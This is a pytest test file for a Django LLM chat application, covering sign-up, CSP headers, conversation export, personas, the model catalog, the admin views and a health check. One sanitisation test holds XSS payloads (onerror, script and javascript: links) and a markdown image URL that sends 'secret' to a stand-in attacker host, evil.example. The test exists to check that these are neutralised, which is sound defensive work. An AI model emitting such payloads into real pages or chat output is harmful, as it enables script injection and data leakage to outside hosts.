"""Pages, export, sign-up, admin and the pieces the websocket relies on."""

import re

import pytest
from django.contrib.auth import get_user_model

from conversations import services
from conversations.catalog.models import ModelInfo
from conversations.models import Conversation, Message
from conversations.personas.models import Persona
from conversations.provider import upstream
from conversations.rendering.markdown import render_markdown
from tests import factories
from tests.conftest import API_KEY

pytestmark = pytest.mark.django_db


def make_conversation(owner, *, persona=None, turns=1) -> Conversation:
    conversation = services.conversation_create(owner=owner, persona=persona, model="m", title="T")
    parent = None
    for i in range(turns):
        parent = factories.message_append(
            conversation=conversation, role="user", content=f"q{i}", parent=parent
        )
        parent = factories.message_append(
            conversation=conversation, role="assistant", content=f"a{i}", parent=parent
        )
    return conversation


def test_default_personas_exist():
    personas = {p.name: p for p in Persona.objects.filter(owner=None)}
    assert personas["Helpful assistant"].system_prompt == "You are a helpful assistant."
    assert "type hints" in personas["Python expert"].system_prompt


def test_chat_requires_sign_in(client):
    response = client.get("/")
    assert response.status_code == 302 and response["Location"].startswith("/accounts/login/")


def test_first_signup_is_superuser_then_ordinary(client):
    for name, superuser in (("first", True), ("second", False)):
        client.logout()
        response = client.post(
            "/accounts/signup/",
            {"username": name, "password1": "a-Strong-pass-42", "password2": "a-Strong-pass-42"},
        )
        assert response.status_code == 302
        user = get_user_model().objects.get(username=name)
        assert user.is_superuser is superuser and user.is_staff is superuser
        assert client.get("/").status_code == 200  # Signed in straight away.


def test_signup_shows_the_password_rules_before_a_sign_up_fails(client):
    page = client.get("/accounts/signup/").content.decode()
    assert "form-error" not in page
    assert re.search(
        r'<div class="form-help" id="id_password1-help">[^<]*at least 8 characters', page
    )
    assert re.search(
        r'<input type="password" name="password1"[^>]*aria-describedby="id_password1-help"', page
    )


def test_signup_errors_are_shown(client):
    response = client.post(
        "/accounts/signup/", {"username": "x", "password1": "a", "password2": "b"}
    )
    assert response.status_code == 200
    assert b"form-error" in response.content
    assert not get_user_model().objects.exists()


def test_chat_page_and_csp(client, user, settings):
    settings.LLM_API_KEY = API_KEY
    conversation = make_conversation(user)
    client.force_login(user)
    response = client.get(f"/conversations/{conversation.pk}/")
    assert response.status_code == 200
    html = response.content.decode()
    assert "Helpful assistant" in html and 'id="boot"' in html
    assert API_KEY not in html
    csp = response["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "img-src 'self' data:" in csp


def test_someone_elses_conversation_is_404_like_a_missing_one(client, user, other_user):
    conversation = make_conversation(user)
    client.force_login(other_user)
    for url in (
        f"/conversations/{conversation.pk}/",
        f"/conversations/{conversation.pk}/export.json",
    ):
        assert client.get(url).status_code == 404
        assert client.get(url.replace(str(conversation.pk), "99999")).status_code == 404


def test_export_is_what_the_next_turn_would_send(client, user):
    persona = Persona.objects.create(name="Pirate", system_prompt="Talk like a pirate.")
    conversation = make_conversation(user, persona=persona, turns=2)
    # A second version of the last reply: export follows the active branch only.
    last = conversation.current_leaf
    factories.message_append(
        conversation=conversation, role="assistant", content="a1 v2", parent=last.parent
    )
    client.force_login(user)
    data = client.get(f"/conversations/{conversation.pk}/export.json").json()
    tree = data.pop("tree")
    assert len(tree) == 5 and data.pop("current") == conversation.current_leaf_id
    for extra in ("format", "version", "created_at", "updated_at", "pinned", "archived"):
        data.pop(extra)
    assert data == {
        "id": conversation.pk,
        "title": "T",
        "model": "m",
        "persona": {"id": persona.pk, "name": "Pirate"},
        "tags": [],
        "messages": [
            {"role": "system", "content": "Talk like a pirate."},
            {"role": "user", "content": "q0"},
            {"role": "assistant", "content": "a0"},
            {"role": "user", "content": "q1"},
            {"role": "assistant", "content": "a1 v2"},
        ],
    }


def test_models_json_lists_chat_models(client, user, fake_upstream):
    fake_upstream.models = {
        "object": "list",
        "data": [
            {"id": "meta-llama/Llama-3.3-70B-Instruct"},
            {"id": "black-forest-labs/FLUX.1-dev"},
            {"id": "stabilityai/stable-diffusion-xl"},
            {"id": "Qwen/QwQ-32B"},
        ],
    }
    client.force_login(user)
    data = client.get("/models.json").json()
    ids = [m["id"] for m in data["models"]]
    assert ids == ["test-model", "meta-llama/Llama-3.3-70B-Instruct", "Qwen/QwQ-32B"]
    llama = data["models"][1]
    assert llama["name"] == "Llama 3.3 70B" and llama["context_window"] == 131072
    assert llama["supports_tools"] is True and llama["family"] == "Llama"
    assert data["models"][2]["family"] == "Qwen"
    assert data["default"] == "test-model"


def test_models_json_falls_back_to_the_default(client, user, settings):
    settings.LLM_BASE_URL = "http://127.0.0.1:9/v1"  # Nothing listens there.
    settings.LLM_DEFAULT_MODEL = "fallback/model"
    upstream.forget_models()
    client.force_login(user)
    assert client.get("/models.json").json()["models"] == [
        {
            "id": "fallback/model",
            "name": "model",
            "family": "fallback",
            "context_window": 8192,
            "supports_tools": True,
            "supports_images": False,
        }
    ]
    client.logout()
    assert client.get("/models.json").status_code == 401


def test_markdown_is_sanitized():
    html = render_markdown(
        '<img src=x onerror="alert(1)"><script>alert(2)</script>\n\n'
        "![leak](https://evil.example/p.png?d=secret)\n\n[x](javascript:alert(3))"
    )
    assert "<img" not in html and "<script" not in html
    assert 'href="javascript' not in html
    assert 'href="https://evil.example/p.png?d=secret"' in html  # a link, never fetched
    assert "&lt;script&gt;" in html


def test_code_is_highlighted():
    html = render_markdown("```python\ndef f():\n    return 1\n```")
    assert '<code class="language-python">' in html and '<span class="k">def</span>' in html


def test_admin_shows_conversations_and_searches_message_text(client, user, django_user_model):
    staff = django_user_model.objects.create_superuser(username="staff", password="pw")
    conversation = make_conversation(user, turns=2)
    client.force_login(staff)
    listing = client.get("/admin/conversations/conversation/", {"q": "a1"})
    assert (
        listing.status_code == 200
        and b"/admin/review/transcript/%d/" % conversation.pk in listing.content
    )
    # The change page leads to the read-only transcript.
    page = client.get(f"/admin/conversations/conversation/{conversation.pk}/change/", follow=True)
    assert page.status_code == 200 and b"q1" in page.content
    for filters in ({"messages__status": "error"}, {"owner__id__exact": user.pk}):
        assert client.get("/admin/conversations/conversation/", filters).status_code == 200
    assert client.get("/admin/conversations/persona/add/").status_code == 200


def test_title_from_first_message():
    assert services.title_from_text("  Hello\n world  ") == "Hello world"
    long = services.title_from_text("word " * 30)
    assert long.endswith("…") and len(long) <= 61


def test_personas_create_edit_duplicate_delete(client, user, other_user):
    client.force_login(user)
    form = {
        "name": "Chef",
        "description": "Cooks",
        "system_prompt": "You are a chef.",
        "model": "",
        "temperature": "0.7",
        "top_p": "",
        "max_tokens": "500",
        "tools": ["convert_units"],
        "tool_choice": "auto",
    }
    response = client.post("/personas/new/", form)
    assert response.status_code == 302
    chef = Persona.objects.get(name="Chef")
    assert chef.owner == user and chef.tools == ["convert_units"] and chef.version == 1
    assert chef.temperature == 0.7 and chef.max_tokens == 500

    form |= {"description": "Cooks well", "system_prompt": "You are a French chef."}
    assert client.post(f"/personas/{chef.pk}/edit/", form).status_code == 302
    chef.refresh_from_db()
    assert chef.system_prompt == "You are a French chef." and chef.version == 2
    form["description"] = "Only the description"
    client.post(f"/personas/{chef.pk}/edit/", form)
    chef.refresh_from_db()
    assert chef.version == 2  # Nothing sent upstream changed.

    bad = client.post(f"/personas/{chef.pk}/edit/", {**form, "temperature": "9"})
    assert bad.status_code == 200 and b"form-error" in bad.content

    shared = Persona.objects.get(name="Helpful assistant")
    response = client.post(f"/personas/{shared.pk}/duplicate/")
    copy = Persona.objects.get(name="Helpful assistant (copy)")
    assert response["Location"] == f"/personas/{copy.pk}/edit/" and copy.owner == user
    assert client.get(f"/personas/{shared.pk}/edit/").status_code == 404  # Shared: staff's.

    page = client.get("/personas/").content.decode()
    assert "Chef" in page and "Shared" in page

    client.force_login(other_user)
    for url in (f"/personas/{chef.pk}/edit/", f"/personas/{chef.pk}/delete/"):
        assert client.get(url).status_code == 404
    assert client.post(f"/personas/{chef.pk}/duplicate/").status_code == 404
    assert "Chef" not in client.get("/personas/").content.decode()

    client.force_login(user)
    assert client.get(f"/personas/{chef.pk}/delete/").status_code == 200
    assert client.post(f"/personas/{chef.pk}/delete/").status_code == 302
    assert not Persona.objects.filter(pk=chef.pk).exists()


def test_sync_models_keeps_staff_edits(fake_upstream):
    from django.core.management import call_command

    ModelInfo.objects.create(
        model_id="Qwen/QwQ-32B", display_name="Staff's name", context_window=4096
    )
    ModelInfo.objects.create(model_id="gone/model")
    fake_upstream.models = {
        "object": "list",
        "data": [
            {"id": "Qwen/QwQ-32B"},
            {"id": "moonshotai/Kimi-K2-Instruct"},
            {"id": "black-forest-labs/FLUX.1-dev"},
        ],
    }
    call_command("sync_models")
    kimi = ModelInfo.objects.get(model_id="moonshotai/Kimi-K2-Instruct")
    assert kimi.display_name == "Kimi K2" and kimi.context_window == 131072 and kimi.supports_tools
    qwq = ModelInfo.objects.get(model_id="Qwen/QwQ-32B")
    assert qwq.display_name == "Staff's name" and qwq.context_window == 4096
    assert not ModelInfo.objects.get(model_id="gone/model").available
    assert not ModelInfo.objects.filter(model_id__icontains="flux").exists()


def test_catalog_covers_the_providers_chat_models():
    from conversations.provider import catalog

    for model_id in (
        "meta-llama/Llama-3.3-70B-Instruct",
        "deepseek-ai/DeepSeek-R1-0528",
        "Qwen/Qwen3-Coder-480B-A35B-Instruct",
        "openai/gpt-oss-120b",
        "NousResearch/Hermes-3-Llama-3.1-70B",
    ):
        assert model_id in catalog.BUILT_IN
    assert len(catalog.BUILT_IN) >= 20
    assert catalog.model_info("unknown/x").context_window == catalog.DEFAULT_CONTEXT_WINDOW


def test_admin_shows_tool_exchange_and_models(client, user, django_user_model):
    staff = django_user_model.objects.create_superuser(username="boss", password="pw")
    conversation = make_conversation(user)
    asked = factories.message_append(
        conversation=conversation, role="assistant", content="", parent=conversation.current_leaf
    )
    Message.objects.filter(pk=asked.pk).update(
        tool_calls=[{"id": "call_9", "name": "calculator", "arguments": '{"expression": "2+2"}'}]
    )
    factories.message_append(
        conversation=conversation,
        role="tool",
        content="4",
        parent=asked,
        tool_call_id="call_9",
        tool_name="calculator",
    )
    client.force_login(staff)
    page = client.get(
        f"/admin/conversations/conversation/{conversation.pk}/change/", follow=True
    ).content.decode()
    assert "call_9" in page and "calculator" in page
    assert client.get("/admin/conversations/modelinfo/").status_code == 200


@pytest.mark.django_db(transaction=True)
async def test_health_reports_the_database_and_channel_layer(async_client):
    from conversations.chat import runtime

    response = await async_client.get("/healthz")
    assert response.status_code == 200
    assert response.json() == {
        "status": "ok",
        "database": "ok",
        "channel_layer": "ok",
        "draining": False,
    }
    runtime.current().draining = True
    response = await async_client.get("/healthz")
    assert response.status_code == 503 and response.json()["draining"] is True
    await runtime.shutdown()
